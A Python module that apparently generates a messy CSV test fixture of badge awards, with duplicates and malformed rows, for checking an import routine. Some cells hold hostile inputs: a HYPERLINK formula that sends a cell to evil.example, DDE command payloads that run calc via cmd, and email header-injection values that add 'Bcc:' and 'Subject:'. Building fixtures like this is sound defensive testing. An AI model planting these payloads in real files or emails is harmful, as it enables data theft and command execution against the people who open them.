"""A table as people have them: 500 rows, of which 480 are awards to 480 different people.

`messy()` writes the same bytes for the same seed, and says what must become of them. The 20 others: six
repeat a row before them, and fourteen do not fit (an address that is none, an unknown badge, a name with a
line break, an address in a narrative, a day that is none or could be two, a row with a cell too many).
"""

from __future__ import annotations

import csv
import io
import random
from collections.abc import Sequence
from dataclasses import dataclass

ROWS, GOOD, DUPLICATE, BAD = 500, 480, 6, 14

_LATIN = ("Amira", "Jürgen", "Zoé", "José", "Élodie", "Åsa", "Marta", "Noël")
_OTHER = ("أميرة", "يوسف", "Ελένη", "Łukasz", "Иван", "小林")
_FAMILY = ("Müller", "Khalil", "O'Brien", "D’Angelo", "de la Cruz", "Nguyễn", "Haddad")
_FAMILY_LATIN = ("Müller", "Khalil", "O'Brien", "D'Angelo", "de la Cruz", "Haddad")


@dataclass(frozen=True)
class Messy:
    """The file, and how many of its rows are good, repeat a good one, or do not fit."""

    data: bytes
    good: int = GOOD
    duplicate: int = DUPLICATE
    bad: int = BAD


def messy(
    badges: Sequence[str] = ("harbour/listener",), *, seed: int = 2019, encoding: str = "utf-8-sig"
) -> Messy:
    """The table as CSV with semicolons. ``badges`` are those it may name, each good for an award without
    evidence; with ``encoding="cp1252"`` it is as old Excels write it, in Latin letters only."""
    chance = random.Random(seed)
    latin = encoding in ("cp1252", "latin-1")
    rows = [_good(n, badges, chance, latin) for n in range(GOOD)]
    repeated = [list(row) for row in chance.sample(rows, DUPLICATE)]
    for number, row in enumerate(repeated):
        row[2] = (f" {row[2].upper()} ", row[2])[number % 2]
        row[5] = "said again"
    bad = _bad(badges, chance, latin)
    assert len(bad) == BAD
    table = rows + bad
    chance.shuffle(table)
    for row in repeated:  # somewhere after the row that each repeats
        first = next(n for n, other in enumerate(table) if other[2].lower() == row[2].strip().lower())
        table.insert(chance.randint(first + 1, len(table)), row)
    assert len(table) == ROWS
    out = io.StringIO(newline="")
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    writer.writerow(
        ["Prénom", "Nom", "Adresse e-mail", "Badge", "Date d'obtention", "Remarques", "Narrative"]
    )
    writer.writerows(table)
    writer.writerow([""] * 7)  # Excel leaves such rows behind; they are none
    return Messy(out.getvalue().encode(encoding))


def _good(n: int, badges: Sequence[str], chance: random.Random, latin: bool) -> list[str]:
    given = chance.choice(_LATIN if latin or n % 3 else _OTHER)
    family = chance.choice(_FAMILY_LATIN if latin else _FAMILY)
    host = "exämple.org" if n % 40 == 7 else "example.org"
    local = "jürgen" if n % 40 == 9 else "Person"
    narrative = {
        0: '=HYPERLINK("https://evil.example/?"&A1,"click")',
        1: "- prepared a session\n- led it",
        2: "+1 to everybody; and a semicolon",
        3: "@SUM(1+1)*cmd|' /C calc'!A0 \"quoted\"",
    }.get(n % 60, "")
    if n % 97 == 3:
        given = "=1+1"
    day = ("2024-05-17", "17/05/2024", "17.5.2024", "17 mai 2024", "45429", "2024-05-17 09:30:00")[n % 6]
    return [given, family, f"{local}.{n}@{host}", badges[n % len(badges)], day, "secret note", narrative]


def _bad(badges: Sequence[str], chance: random.Random, latin: bool) -> list[list[str]]:
    def row(n: int, **changes: str) -> list[str]:
        cells = dict(
            zip(
                ("given", "family", "address", "badge", "day", "note", "narrative"),
                _good(GOOD + n, badges, chance, latin),
                strict=True,
            )
        )
        return list((cells | {"narrative": ""} | changes).values())

    return [
        row(0, address="nobody at example.org"),
        row(1, address="nobody@"),
        row(2, address="a@b@example.org"),
        row(3, address=""),
        row(4, badge="no-such-badge"),
        row(5, badge="=cmd|' /C calc'!A0"),
        row(6, given="Eve\r\nBcc: all@example.org"),
        row(7, family="Eve\nSubject: Hello"),
        row(8, given="Eve\x1b[31m"),
        row(9, narrative="Write to somebody.else@example.org"),
        row(10, day="03/04/2024"),
        row(11, day="2024-02-30"),
        row(12, day="soon"),
        [*row(13), "a cell too many"],
    ]
